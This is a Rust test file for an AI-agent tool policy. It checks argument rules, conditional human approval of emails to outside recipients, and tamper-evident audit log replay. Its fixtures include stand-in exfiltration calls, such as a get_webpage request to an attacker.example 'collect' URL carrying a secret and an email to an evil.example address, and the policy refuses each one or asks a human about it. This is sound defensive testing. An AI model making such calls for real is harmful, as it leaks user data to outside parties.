//! Rules on arguments through the policy every surface calls (semantics §16): a broken
//! rule is a typed refusal (`broken_rule`, the rule's name, the value and why, in the
//! model's words); a conditional `approve` asks a human about the calls it names only;
//! the decision log keeps the arguments a rule judged, and a replay judges them again.

mod common;

use orch_agent::audit::{replay, AuditEvent, Auditor, DecisionRecord, Rule};
use orch_agent::{Gate, Gated, Policy, RefusalKind};
use orch_runtime::dynamic::DynMachine;
use orch_runtime::Call;
use std::sync::Arc;
use std::time::Duration;

const TEMPLATE: &str = r#"{
  "agentId": "mail",
  "tools": ["read_inbox", "send_email", "get_webpage"],
  "orchestration": {
    "approve": [
      {"name": "outside-recipient", "tool": "send_email",
       "when": {"not": {"path": "/to", "each": {"glob": "*@corp.example"}}}}
    ],
    "rules": [
      {"name": "our-sites", "tool": "get_webpage", "require": {"path": "/url", "hostIn": ["corp.example", "*.corp.example"]}},
      {"name": "some-recipient", "tool": "send_email", "require": {"path": "/to", "length": {"min": 1}}}
    ],
    "steps": [{"name": "Mail", "isDefault": true}]
  }
}"#;

fn machine() -> DynMachine {
    let compiled = orch_codegen::compile_json(TEMPLATE, None);
    assert!(!compiled.has_errors(), "{:#?}", compiled.diagnostics);
    compiled.to_machine().unwrap()
}

fn tools() -> Policy {
    Policy::new(["read_inbox", "send_email", "get_webpage"])
}

#[test]
fn a_broken_rule_is_a_typed_refusal_in_the_models_words() {
    let machine = machine();
    let policy = tools();
    let mut s = machine.session();
    policy.prepare(&mut s);
    let args = r#"{"url": "https://attacker.example/collect?d=secret"}"#;
    let refusal = policy
        .admit_call(&mut s, "get_webpage", &Call::of_text("get_webpage", args))
        .unwrap_err();
    assert_eq!(refusal.kind, RefusalKind::BrokenRule);
    assert_eq!(refusal.kind.as_str(), "broken_rule");
    assert_eq!(refusal.rule.as_deref(), Some("our-sites"));
    assert_eq!(
        refusal.reason,
        r#"error: `get_webpage` was not run: it breaks rule `our-sites` in step `Mail`: `/url` is "https://attacker.example/collect?d=secret": it must be a URL whose host is one of corp.example, *.corp.example. Allowed now: read_inbox, send_email, get_webpage."#
    );
    let ok = r#"{"url": "https://intranet.corp.example/news"}"#;
    assert!(policy
        .admit_call(&mut s, "get_webpage", &Call::of_text("get_webpage", ok))
        .is_ok());
}

#[test]
fn a_conditional_approval_asks_about_the_calls_that_matter_only() {
    let machine = machine();
    let policy = tools();
    let mut s = machine.session();
    policy.prepare(&mut s);
    let inside = r#"{"to": ["ana@corp.example"], "body": "hi"}"#;
    assert!(policy
        .admit_call(&mut s, "send_email", &Call::of_text("send_email", inside))
        .is_ok());
    // One outside recipient among colleagues: a human is asked, about this exact call.
    let outside = r#"{"to": ["ana@corp.example", "eve@evil.example"], "body": "the report"}"#;
    let call = Call::of_text("send_email", outside);
    let ask = Gate::Ask {
        run: "r1",
        ttl: Duration::from_secs(60),
    };
    let question = match policy.admit_gated(&mut s, "send_email", &call, ask) {
        Gated::Refused {
            refusal,
            question: Some(q),
            changed: true,
        } => {
            assert_eq!(refusal.kind, RefusalKind::NeedsApproval);
            q
        }
        other => panic!("{other:?}"),
    };
    let answer = Gate::Answer {
        run: "r1",
        ticket: question.ticket(),
        approved: true,
    };
    assert!(matches!(
        policy.admit_gated(&mut s, "send_email", &call, answer),
        Gated::Admitted { changed: true }
    ));
    // A required rule refuses before any human is asked.
    let nobody = Call::of_text("send_email", r#"{"to": [], "body": "x"}"#);
    match policy.admit_gated(&mut s, "send_email", &nobody, ask) {
        Gated::Refused {
            refusal,
            question: None,
            ..
        } => assert_eq!(refusal.rule.as_deref(), Some("some-recipient")),
        other => panic!("{other:?}"),
    }
}

#[test]
fn the_log_keeps_judged_arguments_and_a_replay_judges_them_again() {
    let machine = machine();
    let (log, sink) = common::decision_log();
    let policy = tools().audited(Arc::new(Auditor::new(sink, "run-1")));
    let mut s = machine.session();
    policy.prepare(&mut s);
    let read = Call::of_text("read_inbox", r#"{"folder": "in"}"#);
    policy.admit_call(&mut s, "read_inbox", &read).unwrap();
    policy.record(&mut s, "read_inbox");
    let bad = r#"{"url": "https://evil.example/"}"#;
    let refusal = policy
        .admit_call(&mut s, "get_webpage", &Call::of_text("get_webpage", bad))
        .unwrap_err();
    assert_eq!(refusal.kind, RefusalKind::BrokenRule);
    let text = log.lock().unwrap().clone();
    let records: Vec<DecisionRecord> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let calls: Vec<&DecisionRecord> = records
        .iter()
        .filter(|r| matches!(r.event, AuditEvent::Call { .. }))
        .collect();
    // No rule judges `read_inbox`: its arguments stay out of the log.
    assert!(matches!(
        &calls[0].event,
        AuditEvent::Call {
            arguments: None,
            ..
        }
    ));
    match &calls[1].event {
        AuditEvent::Call {
            arguments: Some(a), ..
        } => assert_eq!(a, bad),
        other => panic!("{other:?}"),
    }
    assert_eq!(
        calls[1].rule,
        Some(Rule::Argument {
            step: Some("Mail".into()),
            name: "our-sites".into()
        })
    );
    assert_eq!(calls[1].decision, "refused");
    let replayed = replay(&machine, &text).expect("the log replays");
    assert_eq!(replayed.records, records.len());
    // A log whose judged arguments were altered does not replay.
    let tampered = text.replace("evil.example", "corp.example");
    assert!(replay(&machine, &tampered).is_err());
}
